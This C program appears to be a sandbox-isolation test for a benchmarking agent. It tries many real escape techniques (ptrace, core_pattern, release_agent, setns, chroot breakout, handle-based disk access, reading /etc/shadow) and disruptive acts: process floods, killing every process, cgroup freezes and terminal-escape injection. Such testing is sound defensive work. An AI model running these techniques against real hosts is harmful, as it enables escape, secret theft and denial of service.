/* A measured program that attacks what measures it, from where it is.
 *
 * Every attempt prints "tried NAME", and "reached NAME: HOW" where it got further than a program
 * may that is only to be measured. Who runs it says in the environment what there is to reach:
 *
 *   VICTIM     a file on the host that nobody but root may read or write
 *   FOLDER     a directory on the host that nobody but root may enter
 *   DISK       major:minor of the host's disk
 *   HIDDEN     a directory below /usr with a file, a socket and a pipe, all for root alone
 *   KEY        the name of a key of root's user
 *   PORT       a TCP port on the host's loopback at which somebody listens
 *   GHOST      name of processes that outlive it, if they can
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *name;
/* What launched this program. */
static pid_t launcher;

static void reached(const char *how, ...) {
    va_list arguments;
    va_start(arguments, how);
    printf("reached %s: ", name);
    vprintf(how, arguments);
    printf("\n");
    fflush(stdout);
    va_end(arguments);
}

static const char *given(const char *what) {
    const char *value = getenv(what);
    return value ? value : "/nowhere";
}

static const char *const SHOWN[] = {"/tare", "/tare/shared", "/shared", "/tare-scratch", NULL};
static const char *const RECORD =
    "{\"record\":\"sample\",\"id\":1,\"trial\":1,\"worker\":0,\"iteration\":0,"
    "\"phase\":\"measured\",\"metric\":\"wall_ns\",\"source\":\"perf_cpu\",\"value\":1}\n";

/* The processes that launched this one, as far as they are seen. */
static int ancestors(pid_t *found, int most) {
    int count = 0;
    pid_t pid = launcher;
    while (count < most && pid > 0) {
        char path[64], text[512];
        found[count++] = pid;
        snprintf(path, sizeof path, "/proc/%d/stat", pid);
        int file = open(path, O_RDONLY);
        if (file < 0) break;
        ssize_t length = read(file, text, sizeof text - 1);
        close(file);
        if (length <= 0) break;
        text[length] = 0;
        char *after = strrchr(text, ')');
        if (!after || sscanf(after + 2, "%*c %d", &pid) != 1) break;
    }
    return count;
}

static void write_to_what_is_shown(void) {
    for (int i = 0; SHOWN[i]; i++) {
        char path[256];
        snprintf(path, sizeof path, "%s/attack", SHOWN[i]);
        int file = open(path, O_CREAT | O_WRONLY, 0666);
        if (file >= 0) reached("made %s", path);
        if (symlink(given("VICTIM"), path) == 0) reached("linked %s", path);
        if (mkdir(path, 0777) == 0) reached("made the folder %s", path);
        if (chmod(SHOWN[i], 0777) == 0 && access(SHOWN[i], W_OK) == 0) reached("opened %s", SHOWN[i]);
    }
}

static void read_what_others_have(void) {
    for (int i = 0; SHOWN[i]; i++) {
        DIR *folder = opendir(SHOWN[i]);
        if (!folder) continue;
        for (struct dirent *entry; (entry = readdir(folder));) {
            /* isolate shows the folder that the agent is in. tare-cql and vega.js are in it as well:
               public files of the package, the same in every installation. */
            const char *known[] = {".", "..", "shared", "tare-agent", "hosts", "tare-cql", "vega.js",
                                   NULL};
            int own = 0;
            for (int k = 0; known[k]; k++) own |= !strcmp(entry->d_name, known[k]);
            if (!own) reached("%s/%s", SHOWN[i], entry->d_name);
        }
        closedir(folder);
    }
}

static void ask_for_the_memory_of_a_meeting(void) {
    for (int i = 0; SHOWN[i]; i++) {
        DIR *folder = opendir(SHOWN[i]);
        if (!folder) continue;
        for (struct dirent *entry; (entry = readdir(folder));) {
            struct sockaddr_un address = {.sun_family = AF_UNIX};
            snprintf(address.sun_path, sizeof address.sun_path, "%s/%s", SHOWN[i], entry->d_name);
            int asking = socket(AF_UNIX, SOCK_STREAM, 0);
            if (connect(asking, (struct sockaddr *)&address, sizeof address) == 0) {
                char byte, space[CMSG_SPACE(sizeof(int))];
                struct iovec part = {&byte, 1};
                struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1,
                                         .msg_control = space, .msg_controllen = sizeof space};
                dprintf(asking, "0123456789abcdef0123456789abcdef\n");
                if (recvmsg(asking, &message, 0) > 0 && message.msg_controllen)
                    reached("was handed a descriptor at %s", address.sun_path);
            }
            close(asking);
        }
        closedir(folder);
    }
}

static void look_into_the_agent(void) {
    pid_t pids[8];
    for (int i = ancestors(pids, 8) - 1; i >= 0; i--) {
        char path[64], byte;
        snprintf(path, sizeof path, "/proc/%d/mem", pids[i]);
        if (open(path, O_RDWR) >= 0) reached("opened %s", path);
        struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
        if (process_vm_readv(pids[i], &here, 1, &there, 1, 0) == 1) reached("read memory of %d", pids[i]);
        if (ptrace(PTRACE_SEIZE, pids[i], 0, 0) == 0) reached("traces %d", pids[i]);
        snprintf(path, sizeof path, "/proc/%d/environ", pids[i]);
        int file = open(path, O_RDONLY);
        if (file >= 0 && read(file, &byte, 1) == 1) reached("read %s", path);
    }
}

static void speak_for_the_agent(void) {
    pid_t pids[8];
    for (int i = ancestors(pids, 8) - 1; i >= 0; i--) {
        for (int number = 0; number < 64; number++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/fd/%d", pids[i], number);
            int file = open(path, O_WRONLY | O_NONBLOCK);
            if (file < 0) continue;
            if (write(file, RECORD, strlen(RECORD)) > 0) reached("wrote to %s", path);
        }
#ifdef SYS_pidfd_getfd
        int process = (int)syscall(SYS_pidfd_open, pids[i], 0);
        for (int number = 0; process >= 0 && number < 64; number++)
            if (syscall(SYS_pidfd_getfd, process, number, 0) >= 0) reached("took %d of %d", number, pids[i]);
#endif
    }
    const char *const ports[] = {"/dev/vport0p1", "/dev/vport1p1", "/dev/vport2p1", NULL};
    for (int i = 0; ports[i]; i++) {
        int file = open(ports[i], O_WRONLY | O_NONBLOCK);
        if (file >= 0 && write(file, RECORD, strlen(RECORD)) > 0) reached("wrote to %s", ports[i]);
    }
}

static void use_what_was_left_open(void) {
    for (int number = 3; number < 1024; number++)
        if (fcntl(number, F_GETFD) >= 0) reached("descriptor %d is open", number);
    for (int number = 1; number <= 2; number++) {
        struct stat found;
        if (fstat(number, &found) == 0 && !S_ISFIFO(found.st_mode) && !S_ISCHR(found.st_mode))
            reached("descriptor %d is no pipe", number);
    }
}

static void change_the_agents_program(void) {
    const char *const programs[] = {"/tare/tare-agent", "/proc/1/exe", NULL};
    for (int i = 0; programs[i]; i++)
        if (open(programs[i], O_WRONLY) >= 0) reached("opened %s for writing", programs[i]);
    pid_t pids[8];
    for (int i = ancestors(pids, 8) - 1; i >= 0; i--) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/exe", pids[i]);
        if (open(path, O_WRONLY) >= 0) reached("opened %s for writing", path);
    }
}

static void make_what_is_shown_writable(void) {
    FILE *mounts = fopen("/proc/self/mounts", "r");
    char line[1024], point[512];
    while (mounts && fgets(line, sizeof line, mounts)) {
        if (sscanf(line, "%*s %511s", point) != 1 || !strncmp(point, "/tmp", 4)) continue;
        if (mount("none", point, NULL, MS_REMOUNT | MS_BIND, NULL) == 0) reached("remounted %s", point);
    }
    const char *const files[] = {"/usr/attack", "/etc/attack", "/bin/attack", "/tare/attack", NULL};
    for (int i = 0; files[i]; i++)
        if (open(files[i], O_CREAT | O_WRONLY, 0666) >= 0) reached("made %s", files[i]);
}

static void read_the_hosts_disk(void) {
    unsigned major_number = 0, minor_number = 0;
    sscanf(given("DISK"), "%u:%u", &major_number, &minor_number);
    const char *const places[] = {"/tmp/disk", "/dev/disk-attack", "/dev/shm/disk", "/disk", NULL};
    for (int i = 0; places[i]; i++) {
        char byte;
        mknod(places[i], S_IFBLK | 0666, makedev(major_number, minor_number));
        int file = open(places[i], O_RDONLY);
        if (file >= 0 && read(file, &byte, 1) == 1) reached("read it at %s", places[i]);
        unlink(places[i]);
    }
}

static void leave_its_control_groups(void) {
    FILE *own = fopen("/proc/self/cgroup", "r");
    char line[1024];
    while (own && fgets(line, sizeof line, own)) {
        char *controllers = strchr(line, ':');
        if (!controllers) continue;
        char *path = strchr(++controllers, ':');
        if (!path) continue;
        *path = 0;
        const char *hierarchy = *controllers ? controllers : "unified";
        if (!strncmp(hierarchy, "name=", 5)) hierarchy += 5;
        char file[512];
        const char *const roots[] = {"/sys/fs/cgroup/%s/cgroup.procs", "/sys/fs/cgroup/cgroup.procs", NULL};
        for (int i = 0; roots[i]; i++) {
            snprintf(file, sizeof file, roots[i], hierarchy);
            int procs = open(file, O_WRONLY);
            if (procs >= 0 && write(procs, "0", 1) == 1) reached("moved by %s", file);
        }
        snprintf(file, sizeof file, "/sys/fs/cgroup/%s/release_agent", hierarchy);
        if (open(file, O_WRONLY) >= 0) reached("opened %s", file);
    }
    if (mkdir("/tmp/groups", 0700) == 0 && mount("none", "/tmp/groups", "cgroup", 0, "memory") == 0)
        reached("mounted a hierarchy");
}

static void change_the_hosts_kernel(void) {
    const char *const files[] = {
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper", "/proc/sys/kernel/hostname", "/proc/sys/vm/overcommit_memory",
        "/sys/kernel/mm/transparent_hugepage/enabled", "/proc/kcore", "/dev/mem", "/dev/kmsg", NULL};
    for (int i = 0; files[i]; i++)
        if (open(files[i], O_WRONLY) >= 0) reached("opened %s", files[i]);
    struct timeval now;
    gettimeofday(&now, NULL);
    if (settimeofday(&now, NULL) == 0) reached("set the clock");
    if (syscall(SYS_init_module, "", 0, "") == 0 || errno == ENOEXEC) reached("may load modules");
    if (sethostname("attack", 6) == 0) {
        /* Of a namespace of its own that is no harm; whose it is, the host is asked. */
    }
}

static void enter_other_namespaces(void) {
    const char *const kinds[] = {"mnt", "net", "pid", "ipc", "uts", NULL};
    pid_t pids[8];
    int count = ancestors(pids, 8);
    for (int i = 0; i < count; i++)
        for (int k = 0; kinds[k]; k++) {
            char path[64];
            struct stat own, other;
            snprintf(path, sizeof path, "/proc/self/ns/%s", kinds[k]);
            if (stat(path, &own) < 0) continue;
            snprintf(path, sizeof path, "/proc/%d/ns/%s", pids[i], kinds[k]);
            int file = open(path, O_RDONLY);
            if (file < 0 || fstat(file, &other) < 0 || own.st_ino == other.st_ino) continue;
            if (setns(file, 0) == 0) reached("entered %s", path);
        }
    int root = open("/", O_RDONLY | O_DIRECTORY);
    if (mkdir("/tmp/jail", 0700) == 0 && chroot("/tmp/jail") == 0) {
        fchdir(root);
        for (int i = 0; i < 64; i++) chdir("..");
        if (chroot(".") == 0 && access(given("VICTIM"), F_OK) == 0) reached("broke out of its root");
    }
}

static void read_secrets(void) {
    const char *const files[] = {"/etc/shadow", "/etc/gshadow", "/root/.bash_history", NULL};
    char byte;
    for (int i = 0; files[i]; i++) {
        int file = open(files[i], O_RDONLY);
        if (file >= 0 && read(file, &byte, 1) == 1) reached("read %s", files[i]);
    }
    int file = open(given("VICTIM"), O_RDONLY);
    if (file >= 0 && read(file, &byte, 1) == 1) reached("read the victim");
    if (open(given("VICTIM"), O_WRONLY) >= 0) reached("opened the victim for writing");
    if (opendir(given("FOLDER"))) reached("listed the folder");
    /* By its number instead of a path, from any file of the host's that is shown. */
    struct {
        struct file_handle head;
        unsigned char bytes[64];
    } handle = {.head = {.handle_bytes = 8, .handle_type = 1}};
    uint64_t first = 2;
    memcpy(handle.head.f_handle, &first, 8);
    const char *const shown[] = {"/etc", "/usr", "/tare", "/", NULL};
    for (int i = 0; shown[i]; i++) {
        int mount_point = open(shown[i], O_RDONLY);
        if (mount_point >= 0 && open_by_handle_at(mount_point, &handle.head, O_RDONLY) >= 0)
            reached("opened the root of the disk by handle at %s", shown[i]);
    }
}

/* What everybody sees in a directory of the system's, and only root may use. */
static void use_what_only_root_may(void) {
    char path[300], byte;
    snprintf(path, sizeof path, "%s/file", given("HIDDEN"));
    int file = open(path, O_RDONLY);
    if (file >= 0 && read(file, &byte, 1) == 1) reached("read %s", path);
    snprintf(path, sizeof path, "%s/pipe", given("HIDDEN"));
    if (open(path, O_RDONLY | O_NONBLOCK) >= 0) reached("opened %s", path);
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "%s/socket", given("HIDDEN"));
    int asking = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(asking, (struct sockaddr *)&address, sizeof address) == 0) reached("connected to %s", address.sun_path);
}

static void take_keys(void) {
    /* Keyrings of the thread, the process, the session and the user, and of the user's sessions. */
    for (int ring = -1; ring >= -5; ring--) {
        char text[64];
        long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, ring, "user", given("KEY"), 0);
        if (key > 0) reached("found the key of root's user in %d", ring);
        if (key > 0 && syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, text, sizeof text) > 0) reached("read it");
    }
}

static void watch_the_host(void) {
    struct {
        uint32_t type, size;
        uint64_t config, rest[14];
    } attributes = {.type = 1, .size = 64, .config = 9};
    if (syscall(SYS_perf_event_open, &attributes, -1, 0, -1, 0) >= 0) reached("watches a CPU");
    char map[64] = {0};
    *(uint32_t *)map = 2; /* an array */
    ((uint32_t *)map)[1] = 4, ((uint32_t *)map)[2] = 4, ((uint32_t *)map)[3] = 1;
    if (syscall(SYS_bpf, 5 /* BPF_PROG_LOAD */, map, sizeof map) >= 0) reached("may load programs");
}

static void reach_the_network(void) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(given("PORT"))),
                                  .sin_addr = {htonl(INADDR_LOOPBACK)}};
    int asking = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval wait = {1, 0};
    setsockopt(asking, SOL_SOCKET, SO_SNDTIMEO, &wait, sizeof wait);
    if (connect(asking, (struct sockaddr *)&address, sizeof address) == 0) reached("the host's loopback");
    close(asking);
}

/* Learn the marker of another launch, and be launched by it oneself. */
static void forge_a_marker(void) {
    char found[16] = "";
    for (int round = 0; round < 200 && !found[0]; round++) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));) {
            char path[300], text[16] = "";
            snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
            int file = open(path, O_RDONLY);
            if (file < 0) continue;
            if (read(file, text, 15) == 15 && text[0] == 'T' && !strchr(text, ' ')) memcpy(found, text, 16);
            close(file);
        }
        if (processes) closedir(processes);
        usleep(1000);
    }
    const char *marker = found[0] ? found : given("MARKER");
    for (int i = 0; i < 3; i++) {
        if (fork() == 0) {
            prctl(PR_SET_NAME, marker);
            execl("/proc/self/exe", "attack", "nothing", (char *)NULL);
            _exit(1);
        }
        wait(NULL);
    }
    if (fork() == 0) {
        prctl(PR_SET_NAME, marker);
        execl("/proc/self/exe", "attack", "nothing", (char *)NULL);
        _exit(1);
    }
    wait(NULL);
}

static void ghost(int depth) {
    if (fork()) return;
    setsid();
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    prctl(PR_SET_NAME, given("GHOST"));
    prctl(PR_SET_PDEATHSIG, 0);
    for (int number = 0; number < 1024; number++) close(number);
    for (int i = 0; i < depth; i++) {
        /* A new number and a new group each time, so that who looks for it finds who was. */
        if (fork()) _exit(0);
        setsid();
        usleep(200);
    }
    for (;;) pause();
}

static void outlive_the_trial(void) {
    for (int i = 0; i < 8; i++) ghost(i * 40);
}

/* Processes that are new whenever somebody looks, in sessions of their own; a few at a time, and not
 * for ever, so that it is the trial that suffers and not the machine. */
static void multiply(void) {
    time_t end = time(NULL) + 15;
    for (int i = 0; i < 4; i++) {
        if (fork()) continue;
        while (time(NULL) < end) {
            setsid();
            prctl(PR_SET_NAME, given("GHOST"));
            pid_t child = fork();
            if (child > 0) _exit(0);
            /* In all fewer than there are numbers (32,768), if nobody reaps them: others need some too. */
            usleep(2000);
        }
        _exit(0);
    }
    usleep(100000);
}

/* Leaves a process, and keeps those that would end it from doing so: the agent's own ones stand still
 * while the first of all is asked to end. */
static void hold(void) {
    pid_t pids[8];
    ghost(0);
    usleep(100000);
    for (int i = 0, found = ancestors(pids, 8); i < found; i++)
        if (pids[i] != 1) kill(pids[i], SIGSTOP);
    for (int number = 1; number < SIGKILL; number++) kill(1, number);
    kill(1, SIGTERM);
    sleep(2);
}

static void put(const char *path, const char *text) {
    int file = open(path, O_WRONLY);
    if (file < 0) return;
    if (write(file, text, strlen(text)) < 0) errno = 0;
    close(file);
}

/* The same by a control group, where what is inside has one of its own to make others in. */
static void freeze(void) {
    char text[64];
    uid_t user = getuid();
    gid_t group = getgid();
    ghost(0);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) return;
    put("/proc/self/setgroups", "deny");
    snprintf(text, sizeof text, "0 %d 1", (int)user);
    put("/proc/self/uid_map", text);
    snprintf(text, sizeof text, "0 %d 1", (int)group);
    put("/proc/self/gid_map", text);
    if (mount("none", "/tmp", "cgroup2", 0, NULL)) return;
    for (int number = 0; number < 200; number++) {
        snprintf(text, sizeof text, "/tmp/litter%d", number);
        mkdir(text, 0755);
    }
    for (int pid = 1; pid < 500; pid++) {
        snprintf(text, sizeof text, "%d", pid);
        if (pid != getpid()) put("/tmp/litter0/cgroup.procs", text);
    }
    put("/tmp/litter0/cgroup.freeze", "1");
    sleep(2);
}

static void fill_the_stream(void) {
    char chunk[4096];
    memset(chunk, '\n', sizeof chunk);
    memcpy(chunk, RECORD, strlen(RECORD));
    for (int i = 0; i < 2048; i++) {
        if (write(1, chunk, sizeof chunk) < 0) break;
        if (write(2, chunk, sizeof chunk) < 0) break;
    }
    fprintf(stderr, "\033]0;owned\007\033[2J\xff\xfe\xe2\x80\xae<script>alert(1)</script>\n");
}

static const struct {
    const char *name;
    void (*attempt)(void);
} ATTACKS[] = {
    {"write_to_what_is_shown", write_to_what_is_shown},
    {"read_what_others_have", read_what_others_have},
    {"ask_for_the_memory_of_a_meeting", ask_for_the_memory_of_a_meeting},
    {"look_into_the_agent", look_into_the_agent},
    {"speak_for_the_agent", speak_for_the_agent},
    {"use_what_was_left_open", use_what_was_left_open},
    {"change_the_agents_program", change_the_agents_program},
    {"make_what_is_shown_writable", make_what_is_shown_writable},
    {"read_the_hosts_disk", read_the_hosts_disk},
    {"leave_its_control_groups", leave_its_control_groups},
    {"change_the_hosts_kernel", change_the_hosts_kernel},
    {"enter_other_namespaces", enter_other_namespaces},
    {"read_secrets", read_secrets},
    {"use_what_only_root_may", use_what_only_root_may},
    {"take_keys", take_keys},
    {"watch_the_host", watch_the_host},
    {"reach_the_network", reach_the_network},
    {"forge_a_marker", forge_a_marker},
    {"outlive_the_trial", outlive_the_trial},
    {"fill_the_stream", fill_the_stream},
    {NULL, NULL},
};

/* Each in a process of its own, so that none spoils the next. */
static void attempt(const char *called, void (*act)(void)) {
    printf("tried %s\n", called);
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        name = called;
        alarm(10);
        act();
        _exit(0);
    }
    waitpid(child, NULL, 0);
}

int main(int count, char **words) {
    const char *what = count > 1 ? words[1] : "all";
    launcher = getppid();
    if (!getenv("GHOST")) {
        fprintf(stderr, "attack is for the test that says what there is to reach\n");
        return 2;
    }
    if (!strcmp(what, "nothing")) return 0;
    if (!strcmp(what, "multiply")) {
        multiply();
        return 0;
    }
    if (!strcmp(what, "stop") || !strcmp(what, "kill")) {
        /* The agent's own processes, as far as they are in reach; then all others that are. */
        int signal_number = !strcmp(what, "stop") ? SIGSTOP : SIGKILL;
        pid_t pids[8];
        for (int i = 0, found = ancestors(pids, 8); i < found; i++) kill(pids[i], signal_number);
        if (signal_number == SIGKILL && getenv("EVERYBODY")) kill(-1, SIGKILL);
        sleep(2);
        return 0;
    }
    if (!strcmp(what, "hold") || !strcmp(what, "freeze")) {
        !strcmp(what, "hold") ? hold() : freeze();
        return 0;
    }
    for (int i = 0; ATTACKS[i].name; i++) {
        const char *called = ATTACKS[i].name;
        int skipped = count > 2 && strstr(words[2], called);
        if (!strcmp(what, called) || (!strcmp(what, "all") && !skipped)) attempt(called, ATTACKS[i].attempt);
    }
    return 0;
}
